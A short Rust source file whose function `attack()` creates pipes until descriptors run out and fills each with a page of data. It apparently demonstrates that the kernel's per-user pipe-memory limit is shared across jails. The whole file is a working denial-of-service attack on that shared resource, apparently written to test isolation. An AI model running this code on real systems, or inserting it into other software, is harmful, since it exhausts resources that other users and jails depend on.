//! Makes pipes and fills them, as many as there are descriptors.
//!
//! What waits in a pipe is the kernel's memory, and how many pages all pipes of a user may have is one number for all
//! jails.

mod clock;

pub use clock::VectorClock;

use std::io::Write;

pub(crate) fn attack() {
    let mut pipes = Vec::new();
    while let Ok((reader, mut writer)) = std::io::pipe() {
        // A page always has room, so this never waits.
        let _ = writer.write_all(&[7; 4096]);
        pipes.push((reader, writer));
    }
    println!("{} pipes", pipes.len());
}
